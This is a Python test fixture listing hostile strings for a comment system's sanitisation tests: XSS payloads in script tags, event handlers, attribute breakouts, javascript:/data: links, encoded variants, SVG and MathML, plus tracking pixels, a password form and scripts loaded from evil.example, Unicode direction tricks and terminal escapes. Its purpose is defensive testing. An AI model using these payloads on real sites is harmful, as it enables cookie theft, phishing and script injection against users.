"""Attack strings for the hostile-input tests: each goes into every field of a comment.

Grouped by the trick they try; every one must come out of a build as inert text.
"""

from __future__ import annotations

HOSTILE: tuple[str, ...] = (
    # Script elements, plain and disguised.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<b onclick=alert(1)>bold</b> **and Markdown bold**",
    "<a href=https://ok.example onmouseover=alert(1)>hover</a>",
    # Quotes that try to leave an attribute (names and websites land in attributes).
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "`\"'><svg onload=alert(1)>",
    'https://ok.example/" onclick="alert(1)',
    "https://ok.example/' style='position:fixed;inset:0",
    # Dangerous URL schemes, in HTML and in Markdown links.
    '<a href="javascript:alert(1)">x</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    '[click]( javascript:alert(1) "title")',
    "[click](<javascript:alert(1)>)",
    "[click](java\tscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    "[click](VBScript:MsgBox(1))",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    '[t](https://ok.example "\\" onmouseover=\\"alert(1)")',
    "javascript:alert(1)",
    " JAVASCRIPT:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    # Autolinks and linkify.
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '<https://ok.example/" onclick="alert(1)>',
    "www.evil.example/javascript:alert(1)",
    "<mailto:x@evil.example?subject=<script>alert(1)</script>>",
    # Entity-encoded and mixed-case variants.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[click](&#106;avascript:alert(1))",
    "[click](&#x6A;avascript&#x3A;alert(1))",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "[click](jav&#x09;ascript:alert(1))",
    # Images (and so requests to a third party) and other embedded content.
    "![pixel](https://evil.example/track.png)",
    "![x](javascript:alert(1))",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<style>body{display:none}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name="password"></form>',
    # SVG and MathML.
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    # Unicode direction marks, invisible characters, terminal escapes.
    "\u202eevil.example/gpj.exe\u202c",
    "\u2066isolated\u2069 \u200fmark\u200e",
    "name\u2028with\u2029separators",
    "\x1b]0;owned\x07\x1b[2J",
    "zero\u200bwidth\ufeffspaces",
    # Template syntax: data, never evaluated.
    "{{ 7*7 }}{% if true %}x{% endif %}${7*7}",
)

# Only a feed from outside the store can carry these (SQLite refuses lone surrogates).
FEED_ONLY: tuple[str, ...] = (
    "lone \ud800 surrogate",
    "nul\x00byte and \x0bvertical tab",
    "\x7f\x85\x9bC1 controls",
)
